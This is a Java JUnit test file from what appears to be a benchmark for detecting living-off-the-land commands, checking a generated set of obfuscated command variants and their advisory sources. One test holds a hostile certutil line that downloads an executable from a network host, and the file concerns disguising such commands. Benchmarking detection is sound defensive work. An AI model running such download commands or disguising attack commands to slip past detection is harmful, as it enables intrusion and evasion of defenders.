package org.gamekeeper.bench.lotl;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** The committed obfuscation set is what its generator makes, and its variants really are disguised. */
class ObfuscationSetTest {

    @Test
    void theCommittedSetIsTheGeneratorsOutput() {
        assertEquals(ObfuscationSet.toTsv(ObfuscationSet.generate()), ObfuscationSet.resource("obfuscation-set.tsv"),
                "regenerate with: java -cp gamekeeper-bench/target/gamekeeper-bench.jar org.gamekeeper.bench.lotl.ObfuscationSet "
                        + "gamekeeper-bench/src/main/resources/org/gamekeeper/bench/lotl/obfuscation-set.tsv");
    }

    @Test
    void everySeedHasItsVariantsEachDifferentFromThePlainCommandAndEachSourceIsNamed() {
        List<ObfuscationSet.Entry> set = ObfuscationSet.committed();
        List<ObfuscationSet.Seed> seeds = ObfuscationSet.seeds();
        assertEquals(seeds.size() * (ObfuscationSet.VARIANTS + 1), set.size());
        for (ObfuscationSet.Seed s : seeds) {
            assertTrue(Set.of("AA23-144A", "AA24-038A", "LOTL-2024").contains(s.source()) || s.source().startsWith("LOLBAS:"), s.toString());
            assertTrue(s.technique().matches("T\\d{4}(\\.\\d{3})?"), s.toString());
        }
        long same = set.stream().filter(e -> e.variant() > 0)
                .filter(e -> e.command().equals(seeds.stream().filter(s -> s.id().equals(e.seedId())).findFirst().orElseThrow().command()))
                .count();
        // A variant whose only transformations found nothing to change (say, no switch to abbreviate) may equal its seed; few do.
        assertTrue(same * 20 < set.size(), same + " variants equal their seed");
        Set<String> used = set.stream().flatMap(e -> List.of(e.transforms().split(",")).stream()).collect(Collectors.toSet());
        for (Obfuscator.Transform t : Obfuscator.Transform.values()) {
            assertTrue(used.contains(t.name().toLowerCase()), t + " is never used");
        }
    }

    @Test
    void theSameSeedGivesTheSameDisguiseAndAnotherSeedAnother() {
        String cmd = "certutil -urlcache -split -f http://10.0.0.1/a.exe a.exe";
        assertEquals(new Obfuscator(7).disguise(cmd), new Obfuscator(7).disguise(cmd));
        assertNotEquals(new Obfuscator(7).disguise(cmd).commandLine(), new Obfuscator(8).disguise(cmd).commandLine());
    }
}
